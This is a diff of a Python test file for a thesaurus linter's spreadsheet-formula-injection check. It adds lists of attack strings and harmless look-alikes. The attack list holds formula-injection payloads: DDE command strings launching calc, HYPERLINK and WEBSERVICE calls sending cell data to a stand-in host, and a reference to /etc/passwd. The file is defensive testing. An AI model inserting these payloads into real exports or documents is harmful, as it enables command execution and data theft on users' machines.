@@ -72,40 +72,61 @@ TEMPLATE = "-{version}+cmd|' /C calc'!A0&\"{creator} {title} {homepage} {license
 METADATA = "taxonomy/taxonomy.yaml"
 
 
-def test_the_composed_credit_line_is_looked_at(thesaurus: Path, run: Run, edit: Edit) -> None:
+@pytest.mark.parametrize("template", [TEMPLATE, "-{publisher}{title} {creator}", "={title}"])
+def test_template_of_the_credit_line_is_looked_at(thesaurus: Path, run: Run, template: str) -> None:
     path = thesaurus / METADATA
     lines = path.read_text(encoding="utf-8").splitlines()
     [line] = [number for number, line in enumerate(lines) if line.startswith("credit_template:")]
-    lines[line] = f"credit_template: {json.dumps(TEMPLATE)}"
+    lines[line] = f"credit_template: {json.dumps(template)}"
     path.write_text("\n".join(lines) + "\n", encoding="utf-8")
-    found = [one for one in findings(run, thesaurus) if "the credit of the thesaurus" in one["message"]]
-    assert [(one["path"], one["line"]) for one in found] == [(METADATA, line + 1)]
-    assert ", begins with '-', as a spreadsheet formula does" in found[0]["message"]
+    assert [(finding["path"], finding["line"]) for finding in findings(run, thesaurus)] == [(METADATA, line + 1)]
     assert run("build", cwd=thesaurus).code == 1
-
-
-def test_values_that_are_a_formula_together(thesaurus: Path, run: Run, edit: Edit) -> None:
-    edit(thesaurus / METADATA, "{creator} ({issued}): {title}", "-{publisher}{title} {creator}")
-    edit(thesaurus / METADATA, "heading: Kleiner Thesaurus der Energie", "heading: (A1)")
-    edit(thesaurus / METADATA, "full_name: Musterverlag", "full_name: SUM")
-    [message] = [one["message"] for one in findings(run, thesaurus)]
-    assert message.startswith("the credit of the thesaurus, '-SUM(A1) ")
-
-
-def test_the_attribution_of_every_row_is_looked_at(thesaurus: Path, run: Run, edit: Edit) -> None:
-    edit(thesaurus / METADATA, "heading: Kleiner Thesaurus der Energie", "heading: '=A1'")
-    [message] = [one["message"] for one in findings(run, thesaurus) if "attribution" in one["message"]]
-    assert message.startswith("the attribution of every row, '=A1 v1.0 by ")
-    allowed = ["=A1", message.partition(", '")[2].partition("', begins")[0]]
-    with (thesaurus / "taxokit.toml").open("a", encoding="utf-8") as file:
-        file.write(f"\n[rules.spreadsheet-formula]\nallowed = {json.dumps(allowed)}\n")
-    assert findings(run, thesaurus) == []
 
 
 def test_a_list_that_is_a_formula_in_the_table_of_a_diff(thesaurus: Path, run: Run, edit: Edit) -> None:
     edit(thesaurus / SOURCE, "- Solarstrom", "- '- cmd'\n      - x!A0")
-    [message] = [one["message"] for one in findings(run, thesaurus)]
-    assert message.startswith("the cell of the synonyms of term photovoltaik in a diff, '- cmd|")
+    [finding] = findings(run, thesaurus)
+    assert "synonyms of term photovoltaik" in finding["message"]
+
+
+ATTACKS = [
+    *("=1+1", "@SUM(A1)", " =1+1", "'=1+1", '"=1+1', "＝1+1", "＠SUM(A1)", "\t=1", "\n\r=1"),
+    *(
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "－ｃｍｄ｜＇ /C calc＇！A0",
+        "- cmd|' /C calc'!A0",
+        "-1+-cmd|'x'!A0",
+    ),
+    *(
+        '-HYPERLINK ("http://x/?"&A1)',
+        '- see WEBSERVICE("http://x")',
+        '+1%+HYPERLINK("http://x/?"&A1)',
+        "-[x.xlsx]S!A1",
+    ),
+    *("- 'Sheet 2'!A1", "-'file:///etc/passwd'#$Sheet1.A1", "-1+TODAY()", "-_xlfn.WEBSERVICE(A1)"),
+]
+HARMLESS = [
+    "-5 °C",
+    "-5–7 °C",
+    "+49 30 1234567",
+    "+3 more",
+    "- a point!",
+    "– a dash",
+    "E = mc²",
+    "a@b.c",
+    "=",
+    "-ing",
+    "+-",
+]
+
+
+def test_texts_that_are_formulas_and_texts_that_are_not(thesaurus: Path, run: Run, edit: Edit) -> None:
+    notes = json.dumps([f"a{number}" for number in range(2)] + HARMLESS, ensure_ascii=False)
+    edit(thesaurus / SOURCE, "    label: Strom\n", f"    label: Strom\n    notes: {notes}\n")
+    assert findings(run, thesaurus) == []
+    edit(thesaurus / SOURCE, notes, json.dumps(ATTACKS, ensure_ascii=False))
+    assert len(findings(run, thesaurus)) == len(ATTACKS)
 
 
 def findings(run: Run, root: Path) -> list[dict[str, Any]]:
